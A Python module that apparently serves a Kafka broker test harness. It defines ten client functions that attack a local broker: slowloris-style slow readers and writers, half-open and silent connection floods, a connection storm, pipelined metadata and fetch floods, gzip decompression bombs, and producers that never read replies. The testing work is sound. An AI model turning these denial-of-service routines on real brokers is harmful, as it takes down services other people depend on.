"""Clients that harm others, on purpose or not: each is a function that goes on until its process is ended.

They run at the lowest priority there is (SCHED_IDLE), so that what a victim feels is the broker's work and not theirs.
"""

from __future__ import annotations

import itertools
import os
import random
import selectors
import socket
import struct
import time
import zlib
from collections.abc import Callable

METADATA, METADATA_VERSION = 3, 4
PRODUCE, PRODUCE_VERSION = 0, 3
FETCH, FETCH_VERSION = 1, 4
API_VERSIONS = 18
TCP_REPAIR = 19
"""linux/tcp.h: a socket that is closed in this state sends nothing, as if its machine had vanished."""
BULK, BULK_PARTITIONS = "bulk", 4
"""A topic with much in it."""
WIDE, WIDE_PARTITIONS = [f"wide-{it}" for it in range(10)], 1_000
"""Topics with nothing in them: 10,000 partitions."""
ATTACKER = "127.0.0.66"
BOMB_BYTES = 120 << 20
"""Decompressed: below the bound of 128 times `max.message.bytes`, so that it has to be looked at."""
FORBIDDEN_BOMB_BYTES = 800 << 20


def string(text: str) -> bytes:
    return struct.pack(">h", len(text)) + text.encode()


def frame(key: int, version: int, body: bytes, number: int = 1) -> bytes:
    header = struct.pack(">hhih", key, version, number, -1)
    return struct.pack(">i", len(header) + len(body)) + header + body


def fetch(topics: list[str], partitions: range, wait_ms: int, partition_bytes: int = 50 << 20) -> bytes:
    wanted = struct.pack(">i", len(partitions)) + b"".join(struct.pack(">iqi", it, 0, partition_bytes) for it in partitions)
    head = struct.pack(">iiiib", -1, wait_ms, 1, 50 << 20, 0)
    return frame(FETCH, FETCH_VERSION, head + struct.pack(">i", len(topics)) + b"".join(string(it) + wanted for it in topics))


def produce(topic: str, partition: int, batch: bytes) -> bytes:
    head = struct.pack(">hhi", -1, -1, 30_000)
    data = struct.pack(">i", 1) + string(topic) + struct.pack(">iii", 1, partition, len(batch)) + batch
    return frame(PRODUCE, PRODUCE_VERSION, head + data)


def metadata(topics: list[str] | None) -> bytes:
    named = struct.pack(">i", -1) if topics is None else struct.pack(">i", len(topics)) + b"".join(map(string, topics))
    return frame(METADATA, METADATA_VERSION, named + b"\0")


def crc32c(content: bytes) -> int:
    table = []
    for byte in range(256):
        for _ in range(8):
            byte = byte >> 1 ^ (0x82F63B78 if byte & 1 else 0)
        table.append(byte)
    crc = 0xFFFFFFFF
    for byte in content:
        crc = table[(crc ^ byte) & 0xFF] ^ crc >> 8
    return crc ^ 0xFFFFFFFF


def varint(value: int) -> bytes:
    value = value << 1
    content = bytearray()
    while value > 127:
        content.append(value & 127 | 128)
        value >>= 7
    content.append(value)
    return bytes(content)


def batch(records: bytes, count: int, codec: int) -> bytes:
    """A record batch of format 2."""
    now = int(time.time() * 1000)
    after_crc = struct.pack(">hiqqqhii", codec, count - 1, now, now, -1, -1, -1, count) + records
    return struct.pack(">qiibI", 0, 4 + 1 + 4 + len(after_crc), 0, 2, crc32c(after_crc)) + after_crc


def record(value: bytes) -> bytes:
    body = b"\0" + varint(0) + varint(0) + b"\x01" + varint(len(value)) + value + varint(0)
    return varint(len(body)) + body


def bomb(size: int) -> bytes:
    """A gzip batch with one record of zeros."""
    body_len = 1 + 1 + 1 + 1 + len(varint(size)) + size + 1
    pack = zlib.compressobj(9, wbits=31)
    head = varint(body_len) + b"\0" + varint(0) + varint(0) + b"\x01" + varint(size)
    parts = [pack.compress(head)]
    for _ in range(size >> 20):
        parts.append(pack.compress(bytes(1 << 20)))
    parts.append(pack.compress(bytes(size & (1 << 20) - 1) + varint(0)))
    return batch(b"".join(parts) + pack.flush(), 1, 1)


def connect(port: int) -> socket.socket:
    """From another address than the victim, which is 127.0.0.1."""
    peer = socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(ATTACKER, 0))
    peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return peer


def drain(peer: socket.socket) -> int:
    """Reads one response; its size, 0 if the connection has ended."""
    head = b""
    while len(head) < 4:
        part = peer.recv(4 - len(head))
        if not part:
            return 0
        head += part
    (left,) = struct.unpack(">i", head)
    size = left
    while left:
        part = peer.recv(min(left, 1 << 20))
        if not part:
            return 0
        left -= len(part)
    return size


def slow_readers(port: int, ready: Callable[[], None]) -> None:
    """60 connections ask for 50 MB ten times each, and read a kilobyte a second."""
    peers = []
    for number in range(60):
        peer = connect(port)
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            peer.settimeout(1)
            peer.sendall(10 * fetch([BULK], range(number % BULK_PARTITIONS, number % BULK_PARTITIONS + 1), 0))
        except OSError:
            pass
        peers.append(peer)
    ready()
    while True:
        for peer in peers:
            try:
                peer.setblocking(False)
                peer.recv(1024)
            except OSError:
                pass
        time.sleep(1)


def slow_writers(port: int, ready: Callable[[], None]) -> None:
    """300 connections announce a megabyte and write a byte every 50 ms; whoever is thrown out comes back."""
    peers: list[socket.socket] = []
    first = True
    while True:
        while len(peers) < 300:
            peer = connect(port)
            peer.sendall(struct.pack(">i", 1 << 20) + struct.pack(">hhih", PRODUCE, PRODUCE_VERSION, 1, -1))
            peers.append(peer)
        if first:
            ready()
            first = False
        alive = []
        for peer in peers:
            try:
                peer.send(b"\0")
                alive.append(peer)
            except OSError:
                peer.close()
        peers = alive
        time.sleep(0.05)


def half_open(port: int, ready: Callable[[], None]) -> None:
    """100 connections a second ask for something, or begin to ask, and vanish without a word."""
    for number in itertools.count():
        peer = connect(port)
        read, wait = fetch([BULK], range(4), 0, partition_bytes=1 << 16), fetch(WIDE[:1], range(1), 30_000)
        request = random.choice((read, wait, metadata(None), read[:20]))
        peer.sendall(request)
        peer.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
        peer.close()
        if number == 100:
            ready()
        time.sleep(0.01)


def silent(port: int, ready: Callable[[], None]) -> None:
    """10,000 connections that send nothing."""
    peers = []
    for _ in range(10_000):
        peers.append(connect(port))
    ready()
    while True:
        time.sleep(1)


def storm(port: int, ready: Callable[[], None]) -> None:
    """Connections as fast as they are taken; every second one asks for the versions first."""
    for number in itertools.count():
        try:
            peer = connect(port)
            if number % 2:
                peer.sendall(frame(API_VERSIONS, 0, b""))
                drain(peer)
            # Closed with a reset, so that ports do not run out.
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            peer.close()
        except OSError:
            time.sleep(0.001)
        if number == 200:
            ready()


def pipelined(port: int, ready: Callable[[], None], requests: list[bytes], connections: int, depth: int) -> None:
    """Keeps `depth` requests on their way on each connection, and reads what comes."""
    chosen = selectors.DefaultSelector()
    order = itertools.cycle(requests)

    def join() -> None:
        peer = connect(port)
        for _ in range(depth):
            peer.sendall(next(order))
        chosen.register(peer, selectors.EVENT_READ)

    for _ in range(connections):
        join()
    ready()
    while True:
        for key, _ in chosen.select(1):
            peer = key.fileobj
            try:
                good = drain(peer) > 0
                if good:
                    peer.sendall(next(order))
            except OSError:
                good = False
            if not good:
                chosen.unregister(peer)
                peer.close()
                join()


def huge_metadata(port: int, ready: Callable[[], None]) -> None:
    """Metadata of all topics, 10,000 partitions, and of 20,000 that do not exist, on eight connections without a pause."""
    unknown = [f"there-is-no-such-topic-{it}" for it in range(20_000)]
    pipelined(port, ready, [metadata(None), metadata(unknown)], connections=8, depth=4)


def wide_fetches(port: int, ready: Callable[[], None]) -> None:
    """Fetches over 10,000 partitions, on four connections without a pause."""
    pipelined(port, ready, [fetch(WIDE, range(WIDE_PARTITIONS), 0)], connections=4, depth=2)


def waiting_fetches(port: int, ready: Callable[[], None]) -> None:
    """Fetches over 10,000 partitions that wait for a record, 20 at a time."""
    pipelined(port, ready, [fetch(WIDE, range(WIDE_PARTITIONS), 500)], connections=20, depth=1)


def bombs(port: int, ready: Callable[[], None]) -> None:
    """Batches of a hundred kilobytes that decompress to 120 MB, and some that would be 800 MB, on four connections."""
    small, large = bomb(BOMB_BYTES), bomb(FORBIDDEN_BOMB_BYTES)
    pipelined(port, ready, [produce(BULK, it % BULK_PARTITIONS, small if it % 4 else large) for it in range(8)], connections=4, depth=1)


def deaf_producers(port: int, ready: Callable[[], None]) -> None:
    """Ten connections write produce requests as fast as they are taken and read no answer."""
    content = batch(record(os.urandom(50_000)), 1, 0)
    peers = [connect(port) for _ in range(10)]
    for peer in peers:
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        peer.setblocking(False)
    requests = [produce(BULK, it, content) for it in range(BULK_PARTITIONS)]
    pending = {peer: b"" for peer in peers}
    chosen = selectors.DefaultSelector()
    for peer in peers:
        chosen.register(peer, selectors.EVENT_WRITE)
    ready()
    while True:
        for key, _ in chosen.select(1):
            peer = key.fileobj
            content = pending[peer] or random.choice(requests)
            try:
                pending[peer] = content[peer.send(content):]
            except BlockingIOError:
                pass
            except OSError:
                chosen.unregister(peer)
                peer.close()
                another = connect(port)
                another.setblocking(False)
                pending[another] = b""
                chosen.register(another, selectors.EVENT_WRITE)


ATTACKS: dict[str, tuple[Callable[[int, Callable[[], None]], None], int]] = {
    "slow-readers": (slow_readers, 1), "slow-writers": (slow_writers, 1), "half-open": (half_open, 1), "silent": (silent, 1),
    "storm": (storm, 4), "huge-metadata": (huge_metadata, 1), "wide-fetches": (wide_fetches, 1), "waiting-fetches": (waiting_fetches, 1),
    "bombs": (bombs, 1), "deaf-producers": (deaf_producers, 1),
}
"""And how many processes play each."""
